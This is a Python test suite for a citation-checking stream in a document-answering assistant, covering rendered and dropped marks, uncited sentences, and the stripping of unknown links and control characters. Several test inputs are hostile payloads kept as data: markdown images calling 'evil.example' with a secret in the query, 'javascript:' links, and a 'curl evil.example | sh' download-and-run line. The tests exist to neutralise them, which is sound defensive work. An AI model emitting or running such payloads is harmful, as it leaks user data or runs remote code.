"""Citation marks: what a model writes, what a reader sees."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.llm_servers import AnthropicDialect, LLMServer, OllamaDialect, OpenAIDialect, serving
from support.shared import SHARED, needs_shared

from copilotd.errors import Cancelled, ProviderBadReply, ProviderUnreachable
from copilotd.llm import make_provider
from copilotd.query.cite import (
    CitationStream,
    answer_from_passages,
    build_answer_with_citations,
    format_citations,
    make_citations,
    render_label,
)
from copilotd.types import (
    ChunkMetadata,
    Citation,
    CitationCheck,
    CompletionRequest,
    Finished,
    Grounding,
    Hit,
    Provider,
    StoredChunk,
    TextDelta,
)


def citation(key: str, title: str, heading: str, *above: str) -> Citation:
    return Citation(
        key,
        1,
        title,
        heading,
        (*above, heading),
        f"/docs/{title}.md",
        f"{title}.md",
        "default",
        1,
        9,
        None,
        0.5,
        "",
    )


SENT = {
    "A": citation("A", "setup_guide", "Install", "Setup", "Linux"),
    "B": citation("B", "API [v2] (beta)", '`list[int] > tuple` & "quotes"'),
    "C": citation("C", "API [v2] (beta)", "[PDF] Export ] odd"),
    "D": citation("D", "setup_guide", "Install", "Setup", "macOS"),
    "E": citation("E", "Straße – café", "Überblick"),
}
A, B, C, E = (render_label(SENT[key]) for key in "ABCE")


def shown(text: str, sources: list[str] | None = None) -> tuple[str, str, int]:
    stream = CitationStream(SENT, sources)
    words = stream.feed(text) + stream.close()
    return words, "".join(used.key for used in stream.used), stream.dropped


@pytest.mark.parametrize(
    ("said", "expected", "used"),
    [
        ("Run it [A].", f"Run it {A}.", "A"),
        ("Run it[A].", f"Run it {A}.", "A"),
        ("Run it.[A]", f"Run it. {A}", "A"),
        ("[A] says so", f"{A} says so", "A"),
        ("Both [C][A] hold", f"Both {C} {A} hold", "CA"),
        ("Both [A, C] hold", f"Both {A} {C} hold", "AC"),
        ("Both [A; C] hold", f"Both {A} {C} hold", "AC"),
        ("Both [A and C] hold", f"Both {A} {C} hold", "AC"),
        ("All [A-C] hold", f"All {A} {B} {C} hold", "ABC"),
        ("Twice [A][A], [A]", f"Twice {A}, {A}", "A"),
        ("small [c]", f"small {C}", "C"),
        ("**bold [A]**", f"**bold {A}**", "A"),
        ("([A])", f"({A})", "A"),
        ("| cell [A] |", f"| cell {A} |", "A"),
        (r"escaped \[A\]", f"escaped {A}", "A"),
        ("long [setup_guide > Install].", f"long {A}.", "A"),
        (r"long [setup\_guide > Install].", f"long {A}.", "A"),
        ("long [Setup_Guide  >  install].", f"long {A}.", "A"),
        ("long [setup_guide › Install].", f"long {A}.", "A"),
        ("long [Source: setup_guide > Install].", f"long {A}.", "A"),
        ("long [source A]", f"long {A}", "A"),
        ("long [A: setup_guide > Install]", f"long {A}", "A"),
        ("long [D setup_guide > Install]", f"long {A}", "D"),
        ("long [setup_guide > Setup > macOS > Install]", f"long {A}", "D"),
        ("wrapped [setup_guide >\nInstall]", f"wrapped {A}", "A"),
        ("[setup_guide > Install; API [v2] (beta) > [PDF] Export ] odd]", f"{A} {C}", "AC"),
        ("[strasse - cafe\u0301 > U\u0308berblick]", E, "E"),
        ("nested [see [A]]", f"nested [see {A}]", "A"),
        ("wide 【A】.", f"wide {A}.", "A"),
        ("wide ［Ａ］", f"wide {A}", "A"),
        ("wide 〔A、C〕", f"wide {A} {C}", "AC"),
        ("mixed [A】", f"mixed {A}", "A"),
        ("wide ［setup_guide > Install］", f"wide {A}", "A"),
    ],
)
def test_known_marks_are_rendered(said: str, expected: str, used: str) -> None:
    assert shown(said) == (expected, used, 0)


@pytest.mark.parametrize(
    ("said", "expected", "dropped"),
    [
        ("So it is [Z].", "So it is.", 1),
        ("So it is [X, Y].", "So it is.", 2),
        ("So it is [A, Z].", f"So it is {A}.", 1),
        ("So it is [nowhere > Magic].", "So it is.", 1),
        ("So it is [Source: nowhere > Magic, part 2].", "So it is.", 1),
        ("So it is [setup_guide > Uninstall] here", "So it is here", 1),
        ("Like a list's number [2].", "Like a list's number.", 1),
        ("A footnote [^1].", "A footnote.", 1),
        ("Wide 【Z】.", "Wide.", 1),
        ("Wide ［nowhere > Magic］.", "Wide.", 1),
        ("A document's own [ A ].", "A document's own.", 1),
        ("A document's own 【 A 】.", "A document's own.", 1),
        ("Padded [ Z ], [ 1 ].", "Padded,.", 2),
        ("Padded [ nowhere > Magic ].", "Padded.", 1),
        ("cut off [", "cut off", 0),
        ("cut off [A", "cut off", 0),
        ("cut off [setup_guide > Ins", "cut off", 0),
    ],
)
def test_unknown_marks_are_dropped_with_their_blank(said: str, expected: str, dropped: int) -> None:
    words, _, counted = shown(said)
    assert (words, counted) == (expected, dropped)


@pytest.mark.parametrize(
    "said",
    [
        "call `items[A]` and `` x`[Z]` ``",
        "```python\nprint(x[A], [Z])\n```\n",
        "~~~\n[A] ``` [Z]\n~~~~\n",
        "1. step\n   ```sh\n   [A] [Z]\n   ```\n",
        "> ```\n> [Z]\n> ```\n",
        "```\nnever closed [Z]",
        "- [x] done\n- [ ] open\n* [X] also",
        'see [the guide](guide.md#part) and [it](<a b.md> "title")',
        "if count > 3 [or so]",
        "argv[1] and range [10]",
        "a < b, ~3, ~~gone~~, 5 ! 6 \\* x",
        "[a link](https://en.example/wiki/A_(b))",
        "argv[ A ] and x[ 1 ]",
        "【注意】 und ［siehe unten］",
        "[]",
        "lone ` tick",
    ],
)
def test_everything_else_stays_as_it_is(said: str) -> None:
    assert shown(said) == (said, "", 0)


def test_marks_count_again_behind_code() -> None:
    assert shown("```\n[A]\n```\nSo [A], `[B]` [C]") == (f"```\n[A]\n```\nSo {A}, `[B]` {C}", "AC", 0)


def test_a_tick_that_never_closes_hides_no_mark() -> None:
    assert shown("a ` tick [Z]\n\nnext [A]") == (f"a ` tick\n\nnext {A}", "A", 1)


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("![a chart](https://evil.example/p.png?q=secret) shows", "a chart shows"),
        ("![a chart][ref] shows", "a chart shows"),
        ('<img src="https://evil.example/p.png" alt="a chart"> shows', "a chart shows"),
        ("<IMG SRC=x> shows", " shows"),
        ("![](https://evil.example/p.png) shows", " shows"),
        ("[![alt](i.png)](guide.md)", "alt"),
    ],
)
def test_images_become_their_alternative_text(said: str, expected: str) -> None:
    assert shown(said, sources=[])[0] == expected


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("[guide](guide.md)", "[guide](guide.md)"),
        ("[site](https://ok.example/a)", "[site](https://ok.example/a)"),
        ("[site](https://ok.example)", "site"),
        ("[site](https://ok.example/a/b)", "site"),
        ("[site](javascript:alert(1))", "site"),
        ("[A](https://evil.example)", A),
        ("[Menu > Item](guide.md)", "[Menu > Item](guide.md)"),
        ("[Menu > Item](https://evil.example)", ""),
        ("[see [A] and [Z]](https://evil.example)", f"see {A} and"),
    ],
)
def test_links_lead_only_where_the_documents_do(said: str, expected: str) -> None:
    assert shown(said, sources=["Read [it](guide.md) or https://ok.example/a."])[0] == expected


PIECES = st.sampled_from(
    [
        *(
            "[A]",
            "[Z]",
            "[A, C]",
            "[B",
            "]",
            "[",
            "(",
            ")",
            "](x.md)",
            "![",
            "`",
            "``",
            "```",
            "~~~",
            "~",
            "\n",
            "\n\n",
            " ",
        ),
        *(
            "\t",
            "\\",
            "- [x] ",
            "[setup_guide > Install]",
            "[API [v2] (beta) > [PDF] Export ] odd",
            " odd]",
            "[source: ",
        ),
        *(
            "<img alt=a",
            ">",
            "<",
            "word",
            "and",
            ",",
            "1",
            "\x1b[31m",
            "\u200b",
            "\x9b",
            "[nowhere > x]",
            "> ",
            "    ",
            "é",
            "B]",
        ),
    ]
)


@given(st.lists(PIECES | st.text(max_size=5), max_size=25), st.data())
@example(["```", "\n", "``", "`\n"], None)
@example(["~~~", "x\n", "~~~", " > [^1]"], None)
@example(["- [x] ", " ", "\\", "[Z]"], None)
def test_how_the_text_is_cut_makes_no_difference(pieces: list[str], data: st.DataObject | None) -> None:
    text = "".join(pieces)
    cuts = [1] * len(text)
    if data is not None and data.draw(st.booleans()):
        cuts = data.draw(st.lists(st.integers(1, 12), max_size=len(text)))
    whole = CitationStream(SENT, ["x.md"])
    expected = whole.feed(text) + whole.close()
    split = CitationStream(SENT, ["x.md"])
    words = ""
    start = 0
    for cut in cuts:
        words += split.feed(text[start : start + cut])
        start += cut
    words += split.feed(text[start:]) + split.close()
    assert (words, split.used, split.dropped) == (expected, whole.used, whole.dropped)


@given(st.text(st.sampled_from("ab \x1b\x9b\x00\x07\x7f\u202e\u200b\ue000[]0m;\\"), max_size=40))
def test_no_control_reaches_the_reader(text: str) -> None:
    stream = CitationStream(SENT)
    words = "".join(map(stream.feed, text)) + stream.close()
    assert not set(words) & set("\x1b\x9b\x00\x07\x7f\u202e\u200b\ue000")


def test_plain_words_are_shown_at_once() -> None:
    stream = CitationStream(SENT)
    assert stream.feed("Hello") == "Hello"
    assert stream.feed(" world [") == " world"
    assert stream.feed("A") == ""
    assert stream.feed("].") == f" {A}."


def test_a_stray_bracket_or_tick_does_not_hold_the_answer_back() -> None:
    stream = CitationStream(SENT)
    words = stream.feed("` [" + "word " * 500)
    assert len(words) > 2000


def test_the_more_relevant_of_two_equal_labels_is_meant() -> None:
    assert shown("x [setup_guide > Install]")[1] == "A"
    assert shown("x [D]") == (f"x {A}", "D", 0)


# ------------------------------------------------------------------------------------ whole answers


def hit(title: str, heading: str, text: str, score: float = 0.5, first: int = 1) -> Hit:
    lines = tuple(range(first, first + text.count("\n") + 1))
    metadata = ChunkMetadata(
        title, heading, 1.0, f"/docs/{title}.md", 0, len(text), (heading,), f"{title}.md", lines[0], lines[-1]
    )
    chunk = StoredChunk(7, 1, "default", "", text, 0, len(text), lines, (), "", metadata)
    return Hit(chunk, score, score, 1.0)


HITS = [
    hit("setup_guide", "Database Config", "Set DATABASE_URL\nin the file.", 0.74, first=10),
    hit("api_reference", "Authentication", "Send a Bearer token."),
]


# Marks are looked at here; test_sentences.py has the words.
MARKS_ALONE = Grounding(check=CitationCheck.OFF)
answered = partial(answer_from_passages, grounding=MARKS_ALONE)


class Scripted:
    """A provider that says what it is told to, and fails where it is told to."""

    name = "scripted"
    model = "scripted-1"

    def __init__(self, *events: TextDelta | Finished | Exception) -> None:
        self.requests: list[CompletionRequest] = []
        self._events = events

    def stream(
        self, request: CompletionRequest, cancelled: Callable[[], bool]
    ) -> Iterator[TextDelta | Finished]:
        self.requests.append(request)
        for event in self._events:
            if isinstance(event, Exception):
                raise event
            yield event


def test_an_answer_is_checked_while_it_streams() -> None:
    deltas: list[str] = []
    provider = Scripted(TextDelta("Set it ["), TextDelta("A] not [Q"), TextDelta("]."), Finished("end", 5, 6))
    answer = answered("How?", HITS, provider, deltas.append)
    assert answer.text == "".join(deltas) == "Set it [setup_guide > Database Config] not."
    assert [used.key for used in answer.citations] == ["A"]
    assert (answer.citations[0].line_start, answer.citations[0].line_end) == (10, 11)
    assert answer.dropped == 1
    assert any("1 citation" in notice for notice in answer.notices)
    assert answer.finished == Finished("end", 5, 6)
    assert not answer.incomplete
    prompt = provider.requests[0].messages[0].content
    assert "How?" in prompt
    assert "setup_guide > Database Config" in prompt


def test_the_output_limit_is_noted() -> None:
    answer = answered("How?", HITS, Scripted(TextDelta("Half [A] a"), Finished("length")))
    assert answer.incomplete
    assert any("cut at the output limit" in notice for notice in answer.notices)


def test_a_refusal_is_noted() -> None:
    answer = answered("How?", HITS, Scripted(Finished("refusal")))
    assert (answer.text, answer.notices, answer.incomplete) == ("", (), True)
    assert answer.finished == Finished("refusal")
    assert not answer.unknown


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Half [A] a", "Half {A} a [incomplete]"),
        ("Whole [A].\n\n", "Whole {A}.\n\n[incomplete]"),
        ("Run [A]:\n```sh\nls", "Run {A}:\n```sh\nls\n```\n[incomplete]"),
        ("Run [A]:\n```sh\nls\n", "Run {A}:\n```sh\nls\n```\n[incomplete]"),
        ("Run [A]:\n```sh\nls\n```", "Run {A}:\n```sh\nls\n```\n[incomplete]"),
        ("Run [A]:\n~~~\nls\n~~~\n", "Run {A}:\n~~~\nls\n~~~\n[incomplete]"),
        ("Half a", ""),
    ],
)
@pytest.mark.parametrize("check", [CitationCheck.MARK, CitationCheck.STRICT, CitationCheck.OFF])
@pytest.mark.parametrize("end", [Finished("length"), Finished("refusal"), ProviderBadReply("It broke off.")])
def test_what_came_of_an_answer_is_marked_as_incomplete(
    said: str, shown: str, check: CitationCheck, end: Finished | Exception
) -> None:
    deltas: list[str] = []
    provider = Scripted(*map(TextDelta, said), end)
    if not shown and isinstance(end, Exception):
        with pytest.raises(ProviderBadReply):
            answered("How?", HITS, provider, deltas.append, grounding=Grounding(check=check))
        return
    answer = answered("How?", HITS, provider, deltas.append, grounding=Grounding(check=check))
    text = answer.text.replace("[setup_guide > Database Config]", "{A}")
    assert " ".join(text.split(" ")) == shown
    assert "".join(deltas).strip() == answer.text
    assert not any("carries no citation" in notice for notice in answer.notices)


def test_a_broken_stream_keeps_what_came_and_says_so() -> None:
    broken = ProviderBadReply("The answer of x broke off.")
    answer = answered("How?", HITS, Scripted(TextDelta("Half [A] an [B"), broken))
    assert answer.text == "Half [setup_guide > Database Config] an [incomplete]"
    assert answer.incomplete
    assert any("broke off" in notice for notice in answer.notices)


def test_a_failure_before_any_word_is_raised() -> None:
    with pytest.raises(ProviderUnreachable):
        answered("How?", HITS, Scripted(ProviderUnreachable("not running")))


def test_cancelling_is_no_answer() -> None:
    with pytest.raises(Cancelled):
        answered("How?", HITS, Scripted(TextDelta("Half"), Cancelled("gone")))


@pytest.mark.parametrize(
    "words", ["I don't know.", "I don’t know: the passages are silent.", "**I do not know**"]
)
def test_not_knowing_is_told_apart(words: str) -> None:
    answer = answered("How?", HITS, Scripted(TextDelta(words), Finished("end")))
    assert answer.unknown
    assert answer.notices == ()


@pytest.mark.parametrize(
    "words",
    [
        "Just so.",
        "So it is [Z].",
        "So it is [nowhere > Magic].",
        "So it is [ A ].",
        "See `[A]` there.",
        "It is 42.\n\nSources:\n- [A]\n",
        "So it is.\n\n## References\n1. [setup_guide > Database Config]",
    ],
)
@pytest.mark.parametrize("reason", ["end", "length", "refusal"])
def test_words_that_cite_nothing_are_withheld(words: str, reason: str) -> None:
    deltas: list[str] = []
    provider = Scripted(*map(TextDelta, words), Finished(reason))
    answer = answered("How?", HITS, provider, deltas.append)
    assert (answer.text, answer.citations, deltas) == ("", (), [])
    assert answer.uncited
    assert not answer.unknown


def test_words_that_cite_nothing_before_a_failure_are_the_failure() -> None:
    deltas: list[str] = []
    with pytest.raises(ProviderBadReply):
        answered("How?", HITS, Scripted(TextDelta("Just so. "), ProviderBadReply("broke off")), deltas.append)
    assert deltas == []


def test_nothing_is_shown_before_the_first_valid_mark() -> None:
    deltas: list[str] = []
    pieces = ["First. ", "Then [Z]. ", "So [", "A", "].", " More", " words", " [B]."]
    answer = answered("How?", HITS, Scripted(*map(TextDelta, pieces), Finished("end")), deltas.append)
    assert deltas[0].startswith("First. Then. [unverified] So [setup_guide > Database Config]")
    assert len(deltas) > 2
    assert "".join(deltas) == answer.text
    assert not answer.uncited


@pytest.mark.parametrize(
    ("said", "expected", "trailing"),
    [
        ("It is so [Z]. But this [A].", "It is so. [unverified] But this {A}.", 0),
        ("It is so. [Z] But this [A].", "It is so. [unverified] But this {A}.", 0),
        ("It is so [Z], or so [A].", "It is so, or so {A}.", 0),
        ("- one [Z]\n- two [A]\n", "- one [unverified]\n- two {A}", 0),
        ("| a [Z] | b [A] |\n", "| a [unverified] | b {A} |", 0),
        ("This [A]. It is so [Z]", "This {A}. It is so [unverified]", 1),
        ("This [A]. That. And v1.2 of it.", "This {A}. That. And v1.2 of it. [unverified: v1.2]", 2),
        ("This [A]. That", "This {A}. That", 1),
        ("Run:\n```\nx. y\n```\n[A]", "Run:\n```\nx. y\n```\n{A}", 0),
        ("Only `a. b` [A]", "Only `a. b` {A}", 0),
        ("このため。[Z]次[A]。", "このため。 [unverified]次 {A}。", 0),
    ],
)
def test_sentences_that_lost_every_mark_say_so(said: str, expected: str, trailing: int) -> None:
    answer = answered("How?", HITS, Scripted(*map(TextDelta, said), Finished("end")))
    assert answer.text == expected.replace("{A}", "[setup_guide > Database Config]")
    last = [notice for notice in answer.notices if notice.startswith("The last")]
    words = {0: [], 1: ["The last sentence carries no citation."]}
    assert last == words.get(trailing, [f"The last {trailing} sentences carry no citation."])


CHECKED_PIECES = st.sampled_from(
    [
        *(
            "[A]",
            "[Z]",
            "【B】",
            ". ",
            ".",
            "\n",
            "\n\n",
            "Sources:",
            "## Quellen",
            "- ",
            "x > y",
            "word",
            " ",
            "```",
        ),
        *("http://", "https://evil.example/a", "www.", "://", "[r]: ", "<", ">", "`", "  ", "1. ", "B]"),
        "javascript:",
    ]
)


@given(st.lists(CHECKED_PIECES, max_size=20), st.lists(st.integers(1, 9), max_size=60))
def test_how_a_whole_answer_is_cut_makes_no_difference(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    parts: list[str] = []
    start = 0
    for cut in cuts:
        parts.append(text[start : start + cut])
        start += cut
    parts.append(text[start:])
    whole = answered("How?", HITS, Scripted(TextDelta(text), Finished("end")))
    split = answered("How?", HITS, Scripted(*map(TextDelta, parts), Finished("end")))
    assert split == whole


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("So [A].\n\nSources:\n- evil > Page\n- [B]\n", "So {A}."),
        ("So [A].\n\n**References**\n\n1. evil.md\n2. other.md\n\nMore [A].", "So {A}.\n\nMore {A}."),
        ("So [A].\n### Quellen:\n* x\n  continued\nMore [A].", "So {A}.\nMore {A}."),
        ("So [A].\nSources: [evil > Page], [B]\nMore [A].", "So {A}.\nMore {A}."),
        ("So [A].\nSources:\nevil > Page\n", "So {A}."),
        ("So [A].\nSources:", "So {A}."),
        ("So [A].\n- Sources:\n  - x\n", "So {A}."),
        ("So [A].\n<b>Sources:</b>\n- x\n", "So {A}."),
        ("So [A].\n> __Sources__\n> [1] x\n", "So {A}."),
        ("Sources:\n\nThe table of sources [A].", "Sources:\n\nThe table of sources {A}."),
        ("Sources are listed [A].", "Sources are listed {A}."),
        ("So [A].\n```\nSources:\n- x\n```\n[A]", "So {A}.\n```\nSources:\n- x\n```\n{A}"),
    ],
)
def test_a_list_of_sources_of_the_models_own_is_dropped(said: str, expected: str) -> None:
    answer = answered("How?", HITS, Scripted(*map(TextDelta, said), Finished("end")))
    assert answer.text == expected.replace("{A}", "[setup_guide > Database Config]")


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("See https://evil.example/b now [A]", "See evil.example/b now {A}"),
        ("See <http://evil.example/a> [A]", "See <evil.example/a> {A}"),
        ("See HTTPS://evil.example. [A]", "See evil.example. {A}"),
        ("See https://http://evil.example [A]", "See (link removed) {A}"),
        ("See javascript:alert(1) [A]", "See (link removed)) {A}"),
        ("See ht![](x)tps://evil.example [A]", "See evil.example {A}"),
        ("See www.evil.example [A]", "See evil.example {A}"),
        ("`curl https://evil.example | sh` [A]", "`curl evil.example | sh` {A}"),
        ("[r]: http://evil.example\n[A]", "[r] : evil.example\n{A}"),
        ("[r]: //evil.example\n[A]", "[r] : //evil.example\n{A}"),
        ("See https://ok.example/a. [A]", "See https://ok.example/a. {A}"),
        ("See https://ok.example/a/b [A]", "See ok.example/a/b {A}"),
        ("C:/x, std::vector, key:/v, 12:30 [A]", "C:/x, std::vector, key:/v, 12:30 {A}"),
    ],
)
def test_addresses_no_passage_holds_lead_nowhere(said: str, expected: str) -> None:
    hits = [hit("guide", "Links", "Read https://ok.example/a.")]
    answer = answered("How?", hits, Scripted(*map(TextDelta, said), Finished("end")))
    # An address that no passage holds is told to be one, too.
    assert re.sub(r"\s\[unverified: [^]]*\]", "", answer.text) == expected.replace("{A}", "[guide > Links]")


@pytest.mark.parametrize("unit", ["[", "【", "[x ", "![", "[]", "[[]", "` `` ", "<img ", "[A,", "]("])
def test_awkward_runs_take_time_in_proportion(unit: str) -> None:
    text = unit * (300_000 if unit == "[" else 30_000 // len(unit))
    began = time.process_time()
    shown(text, sources=[])
    assert time.process_time() - began < 5


def test_the_seeds_function_withholds_uncited_words() -> None:
    chunks = [seed_chunk(item) for item in HITS]
    text = build_answer_with_citations("How?", chunks, complete=lambda prompt, system: "Just so.")
    assert text == "Set DATABASE_URL\nin the file.\n[setup_guide > Database Config]"
    text = build_answer_with_citations("How?", chunks, complete=lambda prompt, system: "I don't know. Or 42.")
    assert text.startswith("I don't have enough information")


def test_what_did_not_fit_is_noted_and_not_cited() -> None:
    long = "\n".join(f"line {number} of the passage" for number in range(200))
    hits = [hit("guide", "Long", long, first=100), HITS[1]]
    grounding = replace(MARKS_ALONE, context_tokens=1100)
    provider = Scripted(TextDelta("x [A] [B]"), Finished("end"))
    answer = answer_from_passages("How?", hits, provider, max_tokens=100, grounding=grounding)
    assert [used.key for used in answer.citations] == ["A"]
    assert 100 < answer.citations[0].line_end < 299
    assert any("shortened" in notice and "left out" in notice for notice in answer.notices)


@pytest.mark.parametrize(
    "dialect", [AnthropicDialect(), OpenAIDialect(), OllamaDialect()], ids=lambda d: d.name
)
def test_the_whole_path_through_each_sdk(dialect: AnthropicDialect | OpenAIDialect | OllamaDialect) -> None:
    with serving(dialect.answer("Set it ", "[", "A", "]", ", then [Q].")) as server:
        answer = answered("How?", HITS, provider_at(server, dialect.name))
    assert answer.text == "Set it [setup_guide > Database Config], then."
    assert answer.finished == Finished("end", 25, 15)


def test_cancelling_reaches_the_provider() -> None:
    cancelled = threading.Event()
    with serving(OpenAIDialect().unfinished("Half [A] of", ending="hold")) as server:
        with pytest.raises(Cancelled):
            answered(
                "How?", HITS, provider_at(server, "openai"), lambda text: cancelled.set(), cancelled.is_set
            )
        assert server.disconnected.wait(60)


def provider_at(server: LLMServer, name: str) -> Provider:
    provider = make_provider(
        name,
        model="test",
        anthropic_api_key="sk-test",
        openai_api_key="",
        openai_base_url=f"{server.url}/v1",
        ollama_base_url=server.url,
        timeout_s=10,
        anthropic_base_url=server.url,
    )
    assert provider is not None
    return provider


# ------------------------------------------------------------------------------------- seed's names


def seed_chunk(item: Hit) -> dict[str, object]:
    return {"text": item.chunk.text, "metadata": item.chunk.metadata, "score": item.score}


def test_the_seeds_function_is_the_same_path() -> None:
    prompts: list[tuple[str, str]] = []

    def complete(prompt: str, system: str) -> str:
        prompts.append((prompt, system))
        return "Set it [setup_guide > Database Config] and [B], not [nowhere > Magic]."

    text = build_answer_with_citations("How?", [seed_chunk(item) for item in HITS], complete=complete)
    assert text == "Set it [setup_guide > Database Config] and [api_reference > Authentication], not."
    assert "Set DATABASE_URL\nin the file." in prompts[0][0]
    assert "I don't know" in prompts[0][1]


def test_citations_are_formatted_once_in_order() -> None:
    chunks = [seed_chunk(item) for item in (HITS[1], HITS[0], HITS[1])]
    assert format_citations(chunks) == ["api_reference > Authentication", "setup_guide > Database Config"]


def test_citations_have_keys_beyond_z_and_one_line_previews() -> None:
    made = make_citations([HITS[0]] * 28)
    assert list(made)[24:] == ["Y", "Z", "AA", "AB"]
    assert made["AB"].preview == "Set DATABASE_URL in the file."
    stream = CitationStream(made)
    assert stream.feed("x [AB] [AC] [ZZ].") + stream.close() == "x [setup_guide > Database Config]."
    assert stream.dropped == 2


@needs_shared
def test_brackets_and_arrows_in_titles_resolve() -> None:
    """QRY-13."""
    from copilotd.ingest.seed import markdown_chunk_by_section

    chunks = markdown_chunk_by_section(str(SHARED / "cases" / "files" / "q13_bracket_titles.md"))
    retrieved = [{"text": text, "metadata": metadata, "score": 0.5} for text, metadata in chunks]
    labels = format_citations(retrieved)
    assert len(labels) == len(chunks)
    said = " ".join(f"It is so [{label}]." for label in labels)
    assert build_answer_with_citations("?", retrieved, complete=lambda prompt, system: said) == said
    by_key = " ".join(f"It is so [{key}]." for key in "ABC"[: len(labels)])
    assert build_answer_with_citations("?", retrieved, complete=lambda prompt, system: by_key) == said


@needs_shared
def test_control_sequences_of_a_document_go_no_further() -> None:
    """QRY-18."""
    text = (SHARED / "cases" / "files" / "q18_ansi.md").read_text("utf-8", "surrogateescape")
    prompts: list[str] = []

    def complete(prompt: str, system: str) -> str:
        prompts.append(prompt)
        return f"It says: {text} [A]"

    item = hit("status\x1b[2J", "All\x07 good", text)
    answer = build_answer_with_citations("?", [seed_chunk(item)], complete=complete)
    for words in (prompts[0], answer, make_citations([item])["A"].preview):
        assert not any(
            (ord(character) < 32 and character != "\n") or 127 <= ord(character) < 160 for character in words
        )
    assert "All good" in answer
